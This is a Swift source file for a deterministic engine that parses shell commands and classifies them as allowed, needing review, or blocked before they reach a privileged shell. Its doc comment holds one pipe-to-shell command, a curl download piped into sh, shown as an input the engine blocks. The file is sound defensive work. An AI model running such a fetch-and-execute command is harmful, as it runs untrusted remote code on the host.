/// The deterministic gate between proposed shell commands and a privileged shell.
///
/// ```swift
/// let engine = VerdictEngine()
/// let result = engine.classify("kubectl get pods -n prod | grep -v Running")
/// result.verdict   // .allow
/// engine.classify("curl -fsSL https://x.example/i.sh | sh").verdict  // .block
/// ```
///
/// Every command the input would run is judged — nested substitutions, `sh -c`
/// strings, `eval`, `find -exec`, text piped into shells — and the input's
/// verdict is its worst command's. The same input and policy always give the
/// same result.
public struct VerdictEngine: Sendable {
    let policy: CompiledVerdictPolicy
    let catalog: Catalog
    /// Parser limits used for the input.
    public var parserOptions: ShellParser.Options

    /// An engine with the default policy (read-only → allow, writes → review,
    /// catastrophic → block).
    public init() {
        // The empty policy always validates.
        self.policy = try! CompiledVerdictPolicy(VerdictPolicy())
        self.catalog = .standard
        self.parserOptions = .default
    }

    /// An engine with a user policy.
    ///
    /// - Throws: ``VerdictPolicyError`` naming the field when the policy is invalid
    ///   or one of its examples does not behave as declared.
    public init(policy: VerdictPolicy) throws(VerdictPolicyError) {
        self.policy = try CompiledVerdictPolicy(policy)
        self.catalog = .standard
        self.parserOptions = .default
    }

    /// The SHA-256 (hex) of the policy's canonical encoding; it identifies the
    /// policy in every ``Classification``.
    public var policyHash: String { policy.hash }

    /// Judges a command line or script.
    public func classify(_ command: String) -> Classification {
        let parsed: Result<ShellScript, ShellSyntaxError>
        do {
            parsed = .success(try ShellParser.parse(command, options: parserOptions))
        } catch {
            parsed = .failure(error)
        }
        return classify(parsed)
    }

    /// Judges UTF-8 bytes (which may be invalid UTF-8 or contain NUL: both are
    /// judged like any other input, never trusted).
    public func classify(utf8 bytes: some Collection<UInt8>) -> Classification {
        let parsed: Result<ShellScript, ShellSyntaxError>
        do {
            parsed = .success(try ShellParser.parse(utf8: bytes, options: parserOptions))
        } catch {
            parsed = .failure(error)
        }
        return classify(parsed)
    }

    /// Judges an already parsed script.
    public func classify(_ script: ShellScript) -> Classification {
        classify(.success(script))
    }

    private func classify(_ parsed: Result<ShellScript, ShellSyntaxError>) -> Classification {
        switch parsed {
        case .failure(let error):
            let reason = Reason(
                rule: "parse.error", message: "the input is not valid shell: \(error.message)", verdict: .block, risk: .criticalWrite,
                span: SourceSpan(start: error.offset, end: error.offset))
            return Classification(verdict: .block, risk: .criticalWrite, reasons: [reason], commands: [], syntaxError: error, policyHash: policy.hash)
        case .success(let script):
            var judge = Judge(catalog: catalog, policy: policy)
            judge.list(script.body, Judge.Context())
            if policy.hasFloor { policy.raiseToFloor(&judge) }
            return VerdictEngine.aggregate(judge, policyHash: policy.hash)
        }
    }

    static func aggregate(_ judge: Judge, policyHash: String) -> Classification {
        var verdict = Verdict.allow
        var risk = RiskClass.readOnly
        var reasons: [Reason] = []
        if judge.commands.count == 1 {
            // One command: its reasons are shared, not copied.
            reasons = judge.commands[0].reasons
            verdict = judge.commands[0].verdict
            risk = judge.commands[0].risk
        } else {
            var total = judge.loose.count
            for c in judge.commands { total += c.reasons.count }
            reasons.reserveCapacity(total)
            for c in judge.commands {
                verdict = max(verdict, c.verdict)
                risk = max(risk, c.risk)
                reasons.append(contentsOf: c.reasons)
            }
        }
        for r in judge.loose {
            verdict = max(verdict, r.verdict)
            if let rk = r.risk { risk = max(risk, rk) }
            reasons.append(r)
        }
        // Most severe first, then by position in the input, then in the order found.
        ReasonOrdering.forReport(&reasons)
        return Classification(verdict: verdict, risk: risk, reasons: reasons, commands: judge.commands, policyHash: policyHash)
    }
}
